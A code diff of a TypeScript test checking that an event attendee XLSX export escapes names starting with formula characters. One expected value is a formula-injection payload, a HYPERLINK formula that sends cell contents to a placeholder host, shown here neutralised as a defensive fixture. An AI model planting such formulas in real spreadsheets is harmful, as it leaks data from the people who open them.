@@ -169,7 +169,7 @@ describe("organizer bookings", () => {
 
     const xlsx = xlsxExportResponse({ ...(await attendeeExport({ actor: org.actor, eventId: event.id })), filename: "x.xlsx", sheetName: "Teilnehmer" });
     const wb = new ExcelJS.Workbook();
-    await wb.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer);
+    await wb.xlsx.load(await xlsx.arrayBuffer());
     const names = wb.getWorksheet("Teilnehmer")!.getSheetValues().slice(2).map((r) => (r as unknown[]).slice(2, 4));
     expect(names).toContainEqual([`'=HYPERLINK("http://x.example/?d="&A1,"klick")`, "'-1+1"]);
     expect(names).toContainEqual(["'\tTab", "'@Gast"]);
